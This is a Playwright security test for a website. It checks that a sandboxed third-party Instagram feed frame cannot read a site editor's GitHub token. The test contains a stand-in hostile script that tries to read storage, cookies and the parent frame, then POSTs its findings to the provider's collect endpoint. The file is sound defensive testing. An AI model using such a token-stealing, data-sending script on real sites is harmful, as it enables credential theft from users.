import type { ConsoleMessage, Page } from '@playwright/test';
import { feedWidget } from '../src/data/feed';
import { expect, feedPictureScript, test, waitForHydration } from './fixtures';
import { nginxForFile } from './nginxServer';

/**
 * A hostile or compromised feed provider, on the built site as nginx serves it (its headers and policy):
 * her editor shares the site's origin and Sveltia keeps her GitHub token in its storage. The provider's
 * script runs in a sandboxed frame with an opaque origin (src/machines/browser/feedFrame.ts): whatever it tries, it
 * reads nothing of the site's, and sends nothing of hers away; the widget still shows, with no policy
 * violation.
 */
test.describe.configure({ mode: 'serial' });
const nginx = nginxForFile(6);

/** What Sveltia keeps for her once she has signed in: her GitHub token, in the site's storage. */
const TOKEN = 'gho_herSecretToken0123456789';

/** The stand-in provider: it tries every way to her token, sends what it found home, then draws the feed. */
const hostileProvider = `
  const found = {};
  const attempt = (name, read) => {
    try { found[name] = String(read()); } catch (error) { found[name] = 'refused: ' + error.name; }
  };
  attempt('localStorage', () => JSON.stringify(localStorage));
  attempt('sessionStorage', () => JSON.stringify(sessionStorage));
  attempt('cookie', () => document.cookie);
  attempt('parentStorage', () => JSON.stringify(parent.localStorage));
  attempt('parentPage', () => parent.document.title);
  attempt('topStorage', () => JSON.stringify(top.localStorage));
  attempt('origin', () => origin);
  fetch('${new URL(feedWidget.scriptUrl).origin}/collect', { method: 'POST', body: JSON.stringify(found) });
  ${feedPictureScript}`;

/** What the provider sent home. */
async function answerAsHostileProvider(page: Page) {
  const sent: string[] = [];
  await page.route(feedWidget.scriptUrl, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: hostileProvider }),
  );
  await page.route(`${new URL(feedWidget.scriptUrl).origin}/collect`, (route) => {
    sent.push(route.request().postData() ?? '');
    return route.fulfill({ status: 204 });
  });
  return sent;
}

test('a hostile feed provider cannot read her editor’s token, and the feed still shows, within the policy', async ({
  page,
}) => {
  const violations: string[] = [];
  page.on('console', (message: ConsoleMessage) => {
    if (/Content Security Policy|violates/i.test(message.text())) violations.push(message.text());
  });
  // Every frame, the sandboxed one included, reports its own violations.
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) =>
      console.error(`Content Security Policy violation: ${event.violatedDirective} ${event.blockedURI}`),
    );
  });
  const sent = await answerAsHostileProvider(page);
  // She signed in to her editor on this site: Sveltia keeps her token in the origin's storage.
  await page.goto(`${nginx.base}/admin`);
  await page.evaluate((token) => localStorage.setItem('sveltia-cms.user', JSON.stringify({ token })), TOKEN);

  await page.goto(`${nginx.base}/services`);
  await waitForHydration(page);
  await page.getByRole('heading', { name: 'Rejoignez ma communauté' }).scrollIntoViewIfNeeded();
  // Her default asks first (click-to-load): the visitor asks for the feed.
  if (feedWidget.consent === 'click')
    await page.getByRole('button', { name: 'Afficher le fil Instagram' }).click();
  const feed = page.frameLocator(`#${feedWidget.container.id} > iframe`);
  await expect(feed.getByRole('img', { name: 'Publication Instagram' })).toBeVisible();
  await expect(page.getByText('Chargement du feed Instagram…')).toHaveCount(0);

  await expect.poll(() => sent.length).toBe(1);
  const found = JSON.parse(sent[0] ?? '{}') as Record<string, string>;
  expect(sent[0]).not.toContain(TOKEN);
  // An opaque origin: no storage, no cookie, and no way into the page that holds the frame.
  expect(found).toEqual({
    localStorage: 'refused: SecurityError',
    sessionStorage: 'refused: SecurityError',
    cookie: 'refused: SecurityError',
    parentStorage: 'refused: SecurityError',
    parentPage: 'refused: SecurityError',
    topStorage: 'refused: SecurityError',
    origin: 'null',
  });
  // The provider's script was never in the site's own document.
  await expect(page.locator(`script[src="${feedWidget.scriptUrl}"]`)).toHaveCount(0);
  expect(await page.evaluate(() => localStorage.getItem('sveltia-cms.user'))).toContain(TOKEN);
  expect(violations).toEqual([]);
});
